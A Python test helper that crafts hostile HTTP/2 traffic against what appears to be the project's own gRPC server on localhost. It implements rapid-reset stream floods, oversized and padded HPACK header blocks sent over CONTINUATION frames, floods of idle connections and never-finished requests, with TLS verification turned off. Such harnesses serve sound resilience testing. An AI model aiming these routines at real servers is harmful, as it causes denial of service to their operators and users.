"""Hostile HTTP/2, frame by frame: what a library would refuse to send."""
import socket
import ssl

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
STATUS_200 = 0x88  # in a block of headers
FRAME_BYTES = 16384
# Of a peer that neither answers nor closes, however slow the machine is.
PATIENCE = 60
# Attackers are somebody else than those who call meanwhile.
FROM = ("127.0.0.2", 0)
# Made once: a handshake that begins late is cut off.
CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE
CONTEXT.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
            + payload)


def number(value, bits, flags=0):
    """An integer of HPACK with a prefix of that many bits."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((flags | value,))
    out = bytearray((flags | most,))
    value -= most
    while value >= 128:
        out.append(128 | value & 127)
        value >>= 7
    return bytes(out + bytes((value,)))


def text(value):
    return number(len(value), 7) + value


def header(name, value):
    """A literal that no table keeps."""
    return b"\0" + text(name) + text(value)


def grpc_headers(path, authority=b"localhost", more=()):
    block = b"\x83\x87" + b"\x04" + text(path) + b"\x01" + text(authority)
    for name, value in ((b"content-type", b"application/grpc"), (b"te", b"trailers"), *more):
        block += header(name, value)
    return block


def open_socket(address):
    """To (host, port) or to a unix socket's path."""
    if not isinstance(address, str):
        return socket.create_connection(address, timeout=PATIENCE, source_address=FROM)
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(PATIENCE)
    connection.connect(address)
    return connection


def connect(address, tls):
    """A connection behind the preface."""
    plain = open_socket(address)
    if tls:
        plain = CONTEXT.wrap_socket(plain, server_hostname="localhost")
        assert plain.selected_alpn_protocol() == "h2"
    plain.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return plain


def drain(connection):
    """Reads what is there, so that the peer can write on."""
    connection.settimeout(0.001)
    try:
        while connection.recv(1 << 16):
            pass
    except (TimeoutError, ssl.SSLError, BlockingIOError):
        pass
    finally:
        connection.settimeout(PATIENCE)


def await_end(connection):
    """Reads until the first stream ends, or the connection; False when neither does."""
    connection.settimeout(PATIENCE)
    received = b""
    try:
        while piece := connection.recv(1 << 16):
            received += piece
            while len(received) >= 9 + int.from_bytes(received[:3], "big"):
                size = int.from_bytes(received[:3], "big")
                kind, flags, stream = received[3], received[4], int.from_bytes(received[5:9], "big")
                if stream == 1 and (kind == RST_STREAM
                                    or kind in (DATA, HEADERS) and flags & END_STREAM):
                    return True
                received = received[9 + size:]
        return True
    except TimeoutError:
        return False
    except OSError:
        return True


def answer_headers(address, path):
    """Calls with an empty body: flags and block of the first HEADERS that answer it."""
    with connect(address, True) as connection:
        connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_headers(path)))
        received = b""
        while piece := connection.recv(1 << 16):
            received += piece
            while len(received) >= 9 + int.from_bytes(received[:3], "big"):
                size = int.from_bytes(received[:3], "big")
                if received[3] == HEADERS:
                    return received[4], received[9:9 + size]
                received = received[9 + size:]
    return 0, b""


def rapid_reset(address, tls, path, calls, whole=True):
    """Begins calls and takes each back at once, with its message or before. Returns how many were
    sent."""
    each = 2500  # so that their messages fit into a connection's first window
    block = grpc_headers(path)
    sent = 0
    for _ in range(20 * calls // each):
        if sent >= calls:
            break
        connection = connect(address, tls)
        try:
            for first in range(0, each, 50):
                connection.sendall(b"".join(
                    frame(HEADERS, END_HEADERS, stream, block)
                    + (frame(DATA, END_STREAM, stream, b"\0\0\0\0\0") if whole else b"")
                    + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
                    for stream in range(2 * first + 1, 2 * (first + 50) + 1, 2)))
                sent += 50
                drain(connection)
        except OSError:
            pass  # it was thrown out; it comes again
        finally:
            connection.close()
    return sent


def send_header_block(address, tls, block):
    """Sends a block of headers, however large, and reads until it is answered or thrown out. Returns
    how many of its bytes went out."""
    connection = connect(address, tls)
    sent = 0
    try:
        for at in range(0, len(block), FRAME_BYTES):
            last = at + FRAME_BYTES >= len(block)
            connection.sendall(frame(CONTINUATION if at else HEADERS, END_HEADERS if last else 0, 1,
                                     block[at:at + FRAME_BYTES]))
            sent = min(len(block), at + FRAME_BYTES)
            drain(connection)
    except OSError:
        pass
    finally:
        connection.close()
    return sent


def long_string(address, tls, path, size):
    """One header whose value has that many bytes."""
    return send_header_block(address, tls, grpc_headers(path, more=((b"x-long", b"a" * size),)))


def padded_number(address, tls, path, size):
    """One header whose value's length is written in that many bytes."""
    return send_header_block(address, tls,
                             grpc_headers(path) + b"\0" + text(b"x-padded") + b"\x7f" + b"\x80" * size)


def storm(address, count):
    """That many connections that say nothing. The caller closes them."""
    return [open_socket(address) for _ in range(count)]


def half_headers(address, tls):
    """A request whose headers never end."""
    connection = connect(address, tls)
    block = grpc_headers(b"/retrace.v1.Tenants/ListTenants")
    connection.sendall(frame(HEADERS, 0, 1, block[:20]))
    return connection


def half_body(address, tls, path, token):
    """A call whose message never ends."""
    connection = connect(address, tls)
    block = grpc_headers(path, more=((b"authorization", b"Bearer " + token),))
    connection.sendall(frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, b"\0\0\0\0\x10ab"))
    return connection
